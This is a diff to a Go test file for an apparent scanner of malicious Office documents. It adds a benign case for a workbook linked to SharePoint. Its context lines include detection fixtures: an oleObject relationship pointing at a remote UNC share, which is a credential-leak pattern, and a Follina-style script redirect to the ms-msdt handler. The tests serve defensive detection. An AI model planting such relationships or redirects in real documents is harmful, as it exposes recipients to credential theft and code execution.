@@ -273,6 +273,8 @@ func TestChecks(t *testing.T) {
 			{"oleObject UNC", relsMsg(`<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="\\203.0.113.9\share\x.doc" TargetMode="External"/>`), "2/x.docx/word/_rels/settings.xml.rels"},
 			{"hyperlink", relsMsg(`<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.example.com/" TargetMode="External"/>`), ""},
 			{"local template", relsMsg(`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:\Users\a\Normal.dotm" TargetMode="External"/>`), ""},
+			// Found by the corpus: a workbook linked to another on SharePoint was quarantined.
+			{"excel linked workbook", relsMsg(`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="https://corp.sharepoint.example/sites/finance/budget.xlsx" TargetMode="External"/>`), ""},
 		},
 		"ms-protocol-handler": {
 			{"follina html", msg(htmlPart("2/x.docx/word/x.html", `<script>location.href = "ms-msdt:/id PCWDiagnostic /skip force";</script>`)), "2/x.docx/word/x.html"},
